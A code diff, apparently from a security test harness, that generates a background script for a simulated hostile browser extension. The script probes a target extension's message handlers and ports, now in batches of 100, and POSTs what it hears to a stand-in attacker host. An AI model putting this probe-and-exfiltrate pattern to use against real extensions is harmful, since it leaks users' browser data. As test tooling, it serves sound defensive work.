@@ -58,7 +58,7 @@ export function lettersFor(entryId: EntryId): readonly Sent[] {
 /** Runs as the stranger's background. */
 const background = (target: string, letters: readonly Sent[]): string => `
 const target = ${JSON.stringify(target)};
-const letters = ${JSON.stringify(letters)};
+const letters = JSON.parse(${JSON.stringify(JSON.stringify(letters))});
 const within = (attempt) => Promise.race([attempt, new Promise((resolve) => setTimeout(resolve, 1500))]);
 const heard = (attempt) => within(attempt).then(
   (reply) => (reply === undefined || reply === null ? 'nothing' : 'answered ' + JSON.stringify(reply)),
@@ -71,8 +71,11 @@ const connected = (name) => new Promise((resolve) => {
   setTimeout(() => resolve('nothing'), 1500);
 });
 (async () => {
-  const said = await Promise.all(letters.map(async ({ name, message }) =>
-    ({ what: name, heard: await heard(chrome.runtime.sendMessage(target, message)) })));
+  const said = [];
+  // In small lots: each letter has its own time to be answered.
+  for (let at = 0; at < letters.length; at += 100)
+    said.push(...await Promise.all(letters.slice(at, at + 100).map(async ({ name, message }) =>
+      ({ what: name, heard: await heard(chrome.runtime.sendMessage(target, message)) }))));
   for (const name of ['fill', 'command']) said.push({ what: 'port ' + name, heard: await connected(name) });
   await fetch('https://stranger.attack.example/', { method: 'POST', body: JSON.stringify({ said }) });
 })();
